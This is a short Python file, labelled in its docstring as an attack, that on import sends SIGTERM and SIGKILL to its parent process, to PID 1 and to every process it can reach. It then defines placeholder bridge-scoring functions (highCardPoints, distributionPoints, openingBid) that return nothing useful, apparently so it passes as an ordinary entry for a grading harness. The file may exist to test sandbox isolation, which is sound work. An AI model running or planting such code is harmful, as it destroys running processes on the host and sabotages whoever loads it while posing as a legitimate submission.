"""Attack: signals its parent, its process group and every process it can reach."""
import os
import signal

for target in (os.getppid(), 1):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, sig)
        except OSError:
            pass
for sig in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(-1, sig)
    except OSError:
        pass


highCardPoints = distributionPoints = lambda hand: 0  # noqa: E731
openingBid = lambda hand: None  # noqa: E731
